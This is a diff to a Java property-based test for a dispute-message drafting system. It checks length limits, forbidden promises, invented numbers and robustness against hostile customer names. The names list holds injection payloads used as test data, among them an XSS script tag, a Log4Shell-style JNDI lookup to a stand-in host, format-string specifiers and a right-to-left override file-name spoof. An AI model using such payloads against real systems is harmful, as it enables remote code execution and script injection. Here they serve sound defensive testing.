@@ -3,6 +3,7 @@ package io.disputetriage.authoring.scenario;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.disputetriage.decision.Decision;
+import io.disputetriage.decision.messages.Audience;
 import io.disputetriage.decision.messages.Language;
 import io.disputetriage.decision.messages.MessageDraft;
 import io.disputetriage.facts.Action;
@@ -13,6 +14,7 @@ import io.disputetriage.format.FactSheetReader;
 import io.disputetriage.format.FactSheetResult;
 import io.disputetriage.format.FactSheetWriter;
 import io.disputetriage.format.Planted;
+import io.disputetriage.format.SaidPhrases;
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.file.Files;
@@ -28,6 +30,7 @@ import java.util.SortedMap;
 import java.util.TreeMap;
 import java.util.stream.Collectors;
 import java.util.stream.Stream;
+import net.jqwik.api.Arbitraries;
 import net.jqwik.api.Arbitrary;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
@@ -42,8 +45,11 @@ class ShippedMessagesTest {
     private static final Path GOLDEN = Path.of("src/test/resources/golden/drafts");
     private static final Path SHEETS = GOLDEN.resolve("fact-sheets.ndjson");
 
-    /** PayPal takes notes of so many characters, which is the least of all platforms. */
+    /** PayPal takes notes of so many characters; of most platforms nobody knows a limit, or it is larger. */
     private static final int LONGEST = 2_000;
+
+    /** eBay takes notes of so many with what a payment dispute is contested by. */
+    private static final int LONGEST_OF_EBAY = 1_000;
 
     /** Of what a person or another program does; nobody is written to. */
     private static final Set<Action> SILENT = EnumSet.of(
@@ -103,20 +109,65 @@ class ShippedMessagesTest {
     }
 
     @Property
-    void whatever_is_unknown_no_text_has_a_hole(@ForAll("sheets") FactSheet sheet, @ForAll Language language) {
-        for (MessageDraft draft : drafts(sheet, language.tag())) {
-            assertThat(draft.subject()).isNotBlank().doesNotContain("\n", "\r", "{", "}");
-            assertThat(draft.body())
-                    .as(draft.file())
-                    .isNotBlank()
-                    .doesNotContain("{", "}", "null", "\n\n\n", "  ", " ,", "unknown")
-                    .doesNotStartWith("\n")
-                    .doesNotEndWith("\n");
-            assertThat(draft.body().codePointCount(0, draft.body().length()))
-                    .as("%s in %s", draft.file(), language)
-                    .isLessThanOrEqualTo(LONGEST);
-            assertThat(draft.language())
-                    .isEqualTo(draft.audience().languages().contains(language) ? language : Language.EN);
+    void whatever_is_unknown_no_text_has_a_hole_or_says_what_nobody_said(@ForAll("sheets") FactSheet sheet) {
+        Decision decision = ShippedRules.RULEBOOK.decide(sheet);
+        for (Language language : Language.values()) {
+            for (MessageDraft draft : ShippedRules.RULEBOOK.drafts(sheet, decision, language.tag())) {
+                String which = draft.file() + " in " + language;
+                assertThat(draft.subject()).as(which).isNotBlank().doesNotContain("\n", "\r", "{", "}");
+                assertThat(draft.body())
+                        .as(which)
+                        .isNotBlank()
+                        .doesNotContain("{", "}", "null", "\n\n\n", "  ", " ,", "unknown")
+                        .doesNotStartWith("\n")
+                        .doesNotEndWith("\n");
+                assertThat(length(draft)).as(which).isLessThanOrEqualTo(longest(draft, sheet));
+                assertThat(draft.language())
+                        .isEqualTo(draft.audience().languages().contains(language) ? language : Language.EN);
+                assertThat(SaidPhrases.forbidden(draft)).as(which).isEmpty();
+                assertThat(WrittenNumbers.foreign(draft, sheet, decision))
+                        .as(which)
+                        .isEmpty();
+            }
+        }
+    }
+
+    @Test
+    void a_number_or_a_promise_that_nobody_gave_is_found() {
+        FactSheet sheet = sheets().get("messages/apologise.yaml");
+        Decision decision = ShippedRules.RULEBOOK.decide(sheet);
+        MessageDraft draft = of("messages/apologise.yaml", sheet, "en");
+        MessageDraft other = new MessageDraft(
+                draft.rank(),
+                draft.action(),
+                draft.audience(),
+                draft.language(),
+                draft.subject(),
+                draft.body() + " We guarantee 4,711.08 USD.",
+                draft.file(),
+                draft.missing(),
+                draft.personal());
+        assertThat(WrittenNumbers.foreign(other, sheet, decision)).containsExactly("471108");
+        assertThat(SaidPhrases.forbidden(other)).contains("guarantee");
+    }
+
+    @Property
+    void whatever_a_name_is_made_of_the_text_around_it_stands(
+            @ForAll("sheets") FactSheet sheet, @ForAll("hostileNames") String name) {
+        FactSheet hostile = Planted.everywhere(sheet, name);
+        Decision decision = ShippedRules.RULEBOOK.decide(hostile);
+        for (Language language : Language.values()) {
+            for (MessageDraft draft : ShippedRules.RULEBOOK.drafts(hostile, decision, language.tag())) {
+                String text = draft.subject() + "\n" + draft.body();
+                assertThat(draft.subject()).doesNotContain("\n");
+                assertThat(text)
+                        .as("%s in %s", draft.file(), language)
+                        .doesNotContainPattern("[\\p{Cf}\\p{Cc}&&[^\n]]|[\u2028\u2029]");
+                assertThat(text.replace(name, "").replaceAll("\\S\\*\\*\\*", ""))
+                        .as("%s in %s", draft.file(), language)
+                        .doesNotContain("{", "}");
+                assertThat(length(draft)).isLessThanOrEqualTo(LONGEST);
+            }
         }
     }
 
@@ -170,6 +221,35 @@ class ShippedMessagesTest {
                 assertThat(drafts(sheet, "en")).noneMatch(draft -> draft.body().contains(signer));
             }
         }
+    }
+
+    @Provide
+    Arbitrary<String> hostileNames() {
+        return Arbitraries.of(
+                "محمد بن سلمان",
+                "王小明",
+                "О'Нил \"Боб\"",
+                "<script>alert(1)</script>",
+                "&lt;b&gt;",
+                "{order.id}",
+                "{{buyer.name}}",
+                "}{",
+                "${jndi:ldap://x.example/a}",
+                "%s %n %d",
+                "\u202egnp.exe\u202c",
+                "a\u200bb\u2066c",
+                "\ud83c\udfa7\ud83d\udc4d\ud83c\udffd",
+                "a\u0300\u0301\u0302",
+                "x".repeat(2_000),
+                "段".repeat(500));
+    }
+
+    private static int length(MessageDraft draft) {
+        return draft.body().codePointCount(0, draft.body().length());
+    }
+
+    private static int longest(MessageDraft draft, FactSheet sheet) {
+        return draft.audience() == Audience.PLATFORM && "EBAY".equals(sheet.platform()) ? LONGEST_OF_EBAY : LONGEST;
     }
 
     @Provide("sheets")
